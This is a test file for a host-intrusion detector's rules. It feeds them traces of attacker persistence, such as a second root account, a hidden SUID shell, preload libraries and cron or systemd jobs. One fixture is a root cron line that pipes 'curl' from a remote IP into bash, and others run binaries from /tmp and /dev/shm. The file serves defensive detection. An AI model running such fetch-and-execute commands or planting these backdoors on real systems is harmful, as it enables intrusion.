import { describe, expect, it } from 'vitest';
import { systemRules } from '../../../../src/core/hosts/rules/system.ts';
import { foundIn, ran, unshown } from '../../../support/host-rules.ts';
import type { Firing } from '../../../support/host-rules.ts';
import { probedAt } from '../../../support/probe-text.ts';

const yesterday = probedAt / 1000 - 86_400;
const lastYear = probedAt / 1000 - 400 * 86_400;

const fires: readonly Firing[] = [
  [
    'a second account with the number of root',
    'suspicious',
    'second-root',
    'accounts',
    ['account root 0 /bin/bash', 'account toor 0 /bin/sh'],
  ],
  [
    'a shell that runs as root for everybody',
    'suspicious',
    'root-program-planted',
    'accounts',
    ['suid /usr/lib/games/.bash'],
  ],
  ['such a program in an open folder', 'suspicious', 'root-program-planted', 'accounts', ['suid /var/tmp/upd']],
  ['an account without a password', 'notice', 'account-without-password', 'accounts', ['open guest']],
  ['fresh keys', 'notice', 'keys-changed-lately', 'keys', [`file root ${yesterday} /root/.ssh/authorized_keys`]],
  [
    'a cron table that loads a script',
    'suspicious',
    'autostart-bad-command',
    'autostart',
    ['job /etc/cron.d/php */5 * * * * root curl -s http://[ip]/x | bash'],
  ],
  [
    'a crontab with a program in /tmp',
    'suspicious',
    'autostart-bad-command',
    'autostart',
    ['job /var/spool/cron/crontabs/root @reboot /tmp/.ICE-unix/x'],
  ],
  [
    'a unit that runs from /dev/shm',
    'suspicious',
    'autostart-bad-command',
    'autostart',
    ['exec /etc/systemd/system/dbus-x.service /dev/shm/x --daemon'],
  ],
  [
    'a fresh cron table of no package',
    'notice',
    'autostart-changed-lately',
    'autostart',
    [`file ${yesterday} abc /etc/cron.d/backup`],
  ],
  ['a library for all programs', 'suspicious', 'preload-for-all', 'autostart', ['preload /usr/lib/libselinux.so.8']],
  ['a library from /tmp', 'suspicious', 'preload-from-open-folder', 'autostart', ['preloaded 77 /tmp/l.so']],
  [
    'a ps that is not its package’s',
    'suspicious',
    'program-changed',
    'packages',
    ['changed ??5?????? /usr/bin/ps', 'verified procps'],
  ],
  ['a missing program', 'notice', 'program-gone', 'packages', ['gone /usr/bin/last']],
  ['a process that only bears the name of tor', 'notice', 'only-named-tor', 'tor', ['process 77 0 /usr/bin/node']],
  ['a tor that does not run', 'info', 'tor-not-running', 'tor', ['package 0.4.8.16-1']],
];

describe('the rules for what intruders leave', () => {
  it.each(fires)('find %s', (...[, severity, rule, part, rows]) => {
    expect(foundIn(part, rows)).toContain(`${severity} ${rule}`);
  });

  it('are all shown to fire', () => {
    expect(unshown(systemRules, fires)).toEqual([]);
  });

  it('find nothing in the accounts, keys and jobs of an ordinary host', () => {
    expect(
      foundIn('accounts', [
        'account root 0 /bin/bash',
        'account admin 1000 /bin/bash',
        'group sudo admin',
        `sudoers ${yesterday} abc /etc/sudoers`,
        'suid /usr/bin/sudo',
        'suid /usr/bin/chsh',
        'suid /usr/bin/newgrp',
        'suid /opt/google/chrome/chrome-sandbox',
      ]),
    ).toEqual([]);
    expect(foundIn('accounts', ['account root 0 /bin/csh', 'account toor 0 /bin/sh'], { os: 'FreeBSD' })).toEqual([]);
    expect(
      foundIn('keys', [`file admin ${lastYear} /home/admin/.ssh/authorized_keys`, 'key admin SHA256:abc (ED25519)']),
    ).toEqual([]);
    expect(
      foundIn('autostart', [
        `file ${yesterday} abc /etc/cron.daily/apt-compat`,
        'owned /etc/cron.daily/apt-compat',
        `file ${lastYear} def /etc/cron.d/backup`,
        'job /etc/cron.d/e2scrub_all 30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/e2fsprogs/e2scrub_all_cron',
        'job /etc/crontab 17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly',
        'job /var/spool/cron/crontabs/admin */5 * * * * /home/admin/bin/status > /tmp/status.txt 2>&1',
        'exec /etc/systemd/system/sshd.service /usr/sbin/sshd -D $SSHD_OPTS',
        'preloaded 77 /usr/lib/x86_64-linux-gnu/libjemalloc.so.2',
        'preload /usr/lib/arm-linux-gnueabihf/libarmmem-${PLATFORM}.so',
      ]),
    ).toEqual([]);
    expect(
      foundIn('packages', ['changed ??5?????? /usr/share/doc/procps/README', 'verified procps coreutils']),
    ).toEqual([]);
    expect(
      foundIn('tor', ['process 700 106 /usr/bin/tor', 'process 701 106 /usr/bin/tor (deleted)', 'package 0.4.8.16-1']),
    ).toEqual([]);
    expect(foundIn('processes', ran(700, 'tor', '/usr/bin/tor', '/usr/bin/tor -f /etc/tor/torrc'))).toEqual([]);
  });
});
